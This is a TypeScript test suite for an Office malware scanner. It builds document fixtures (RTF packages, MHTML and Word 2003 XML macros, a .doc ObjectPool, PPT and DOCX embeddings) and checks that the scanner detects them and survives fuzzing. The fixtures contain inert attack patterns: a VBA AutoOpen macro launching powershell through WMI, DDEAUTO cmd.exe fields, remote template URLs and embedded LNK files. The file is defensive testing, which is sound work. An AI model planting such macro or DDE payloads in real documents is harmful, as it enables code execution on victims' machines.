/**
 * The Office carriers end to end through the pipeline: the macro or the file hidden in an RTF object,
 * an MHTML or Word 2003 XML ActiveMime blob, a .doc ObjectPool, a .ppt ExOleObjStg or a .docx
 * embedding is extracted as a child and analysed by the engine for its type (vba for the macros).
 * Then the same fixtures, truncated and byte-flipped, must never crash or hang the pipeline.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { SCAN_FINDINGS, walkResults, type ScanResult } from '../../src/core/index.js';
import { parseCfb } from '../../src/formats/cfb/index.js';
import { buildOleWordDocument, vbaModuleSource } from '../../src/formats/ovba/index.js';
import { ENGINES, scanInput } from '../../src/pipeline/index.js';
import { buildActiveMime, buildMhtmlWithMacros, buildWord2003Xml } from '../builders/activemime.js';
import {
  buildDocWithObjects,
  buildEquationCfb,
  buildOle1Object,
  buildPackageCfb,
  buildPackageNative,
  buildPpt,
  exOleObjStg,
} from '../builders/oleobj.js';
import { buildDocx, buildXlsx, complexField } from '../builders/office.js';
import { buildRtf } from '../builders/rtf.js';

const LNK = Uint8Array.from([
  0x4c,
  0,
  0,
  0,
  1,
  0x14,
  2,
  0,
  0,
  0,
  0,
  0,
  0xc0,
  0,
  0,
  0,
  0,
  0,
  0,
  0x46,
  ...new Uint8Array(60),
]);
const MACRO =
  'Sub AutoOpen()\n  Set o = GetObject("winmgmts:Win32_Process")\n  o.Create "powershell -nop -c echo emoguard", Null, Null, pid\nEnd Sub';
const macroDoc = () =>
  buildOleWordDocument({
    text: 'inert',
    modules: [
      {
        name: 'ThisDocument',
        code: vbaModuleSource('ThisDocument', MACRO, 'document'),
        type: 'document',
      },
    ],
  });

/** Every stream of a compound file by path, to re-home it as an ObjectPool storage. */
function streamsOf(bytes: Uint8Array): Record<string, Uint8Array> {
  const cfb = parseCfb(bytes);
  return Object.fromEntries(
    cfb.entries.filter((e) => e.type === 'stream').map((e) => [e.path, cfb.readStream(e.path)!]),
  );
}

const find = (r: ScanResult, pred: (n: ScanResult) => boolean) =>
  [...walkResults(r)].map(([n]) => n).find(pred);
const hasFinding = (n: ScanResult | undefined, id: string) =>
  n?.findings.some((f) => f.id === id) ?? false;

function fixtures(): { path: string; bytes: Uint8Array }[] {
  const packageRtf = buildRtf({
    objects: [
      {
        objclass: 'Package',
        data: buildOle1Object({
          className: 'Package',
          nativeData: buildPackageNative({
            fileName: 'invoice.lnk',
            sourcePath: 'C:\\u\\invoice.lnk',
            tempPath: 'C:\\t\\invoice.lnk',
            data: LNK,
          }),
        }),
        tricks: ['whitespace', 'control-words', 'bin'],
      },
    ],
    fields: ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'],
  });
  return [
    { path: 'invoice.rtf', bytes: packageRtf },
    {
      path: 'eq.rtf',
      bytes: buildRtf({
        objects: [
          {
            objclass: 'Equation.3',
            data: buildOle1Object({ className: 'Equation.3', nativeData: buildEquationCfb() }),
            isUpdate: true,
          },
        ],
      }),
    },
    { path: 'page.mht', bytes: buildMhtmlWithMacros(macroDoc()) },
    {
      path: 'word2003.xml',
      bytes: buildWord2003Xml({
        editdata: buildActiveMime(macroDoc()),
        attachedTemplate: 'http://203.0.113.7/t.dot',
      }),
    },
    {
      path: 'pool.doc',
      bytes: buildDocWithObjects({
        text: 'x {DDE cmd "/c echo"}',
        objects: [{ id: '1', streams: streamsOf(macroDoc()) }],
      }),
    },
    { path: 'deck.ppt', bytes: buildPpt([exOleObjStg(macroDoc())]) },
    {
      path: 'letter.docx',
      bytes: buildDocx({
        body: [complexField(['DDE', 'AUTO cmd "/c echo"'])],
        template: 'http://203.0.113.7/t.dotm',
        embedding: buildPackageCfb({
          fileName: 'open.lnk',
          sourcePath: 'open.lnk',
          tempPath: 'open.lnk',
          data: LNK,
        }),
      }),
    },
    { path: 'sheet.xlsx', bytes: buildXlsx({ ddeLinks: [{ service: 'cmd', topic: '/c calc' }] }) },
  ];
}

describe('office carriers through the pipeline', () => {
  const scan = (name: string) => {
    const f = fixtures().find((x) => x.path === name)!;
    return scanInput({ path: f.path, bytes: f.bytes });
  };

  test('RTF package: the LNK is a child of type lnk; the RTF is malicious (DDEAUTO cmd)', async () => {
    const r = await scan('invoice.rtf');
    assert.equal(r.type, 'rtf');
    assert.equal(r.verdict, 'malicious');
    const lnk = find(r, (n) => n.path === 'invoice.rtf!invoice.lnk');
    assert.equal(lnk?.type, 'lnk');
    assert.equal(lnk?.relation, 'embedded');
  });

  test('MHTML and Word 2003 XML: the VBA in editdata.mso is found by the vba engine in the child', async () => {
    for (const name of ['page.mht', 'word2003.xml']) {
      const r = await scan(name);
      const child = find(r, (n) => n.path === `${name}!editdata.mso`);
      assert.equal(child?.type, 'ole', name);
      assert.ok(hasFinding(child, 'vba.autoexec-execution-chain'), name);
      assert.ok(
        child!.extracted.macros.some((m) => m.module === 'ThisDocument'),
        name,
      );
      assert.ok(hasFinding(r, 'office.web-document-macros'), name);
      assert.equal(r.verdict, 'malicious');
    }
  });

  test('.doc ObjectPool: the embedded document is rebuilt and its macro found', async () => {
    const r = await scan('pool.doc');
    const child = find(r, (n) => n.path === 'pool.doc!ObjectPool/_1.ole');
    assert.ok(hasFinding(child, 'vba.autoexec-execution-chain'));
    assert.ok(hasFinding(r, 'office.dde-command-execution'));
  });

  test('.ppt ExOleObjStg: the inflated storage is scanned and its macro found', async () => {
    const r = await scan('deck.ppt');
    assert.ok(
      [...walkResults(r)].some(
        ([n]) =>
          n.path.startsWith('deck.ppt!ExOleObjStg-') &&
          hasFinding(n, 'vba.autoexec-execution-chain'),
      ),
    );
  });

  test('.docx embedding: oleObject1.bin → package → LNK, two levels down', async () => {
    const r = await scan('letter.docx');
    assert.equal(
      find(r, (n) => n.path === 'letter.docx!word/embeddings/oleObject1.bin!open.lnk')?.type,
      'lnk',
    );
    assert.ok(hasFinding(r, 'office.remote-template'));
    assert.equal(r.verdict, 'malicious');
  });
});

const KNOWN_IDS = new Set(
  [...ENGINES.flatMap((e) => e.findings), ...SCAN_FINDINGS].map((f) => f.def.id),
);

function seeded(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t ^= t + Math.imul(t ^ (t >>> 7), 61 | t);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// 16 mutations per fixture keep the suite fast; OFFICE_FUZZ_CASES=128 runs the 1,024-case campaign.
const CASES = Number(process.env.OFFICE_FUZZ_CASES ?? 16);

test(`office carriers, hostile: ${CASES} truncations and byte flips of each fixture never crash the pipeline`, async () => {
  const random = seeded(0x0ff1ce);
  let scans = 0;
  for (const fixture of fixtures()) {
    for (let i = 0; i < CASES; i++) {
      const bytes =
        i < 16
          ? fixture.bytes.slice(0, Math.floor((fixture.bytes.length * (i + 1)) / 17))
          : fixture.bytes.slice();
      if (i >= 16)
        for (let f = 1 + Math.floor(random() * 24); f > 0; f--)
          bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      const result = await scanInput({ path: fixture.path, bytes });
      for (const [node] of walkResults(result)) {
        for (const finding of node.findings) assert.ok(KNOWN_IDS.has(finding.id), finding.id);
        assert.ok(
          !node.findings.some((f) => f.id === 'scan.engine-error'),
          `${fixture.path} #${i}: ${JSON.stringify(node.findings.find((f) => f.id === 'scan.engine-error'))}`,
        );
      }
      scans++;
    }
  }
  assert.equal(scans, CASES * fixtures().length);
});
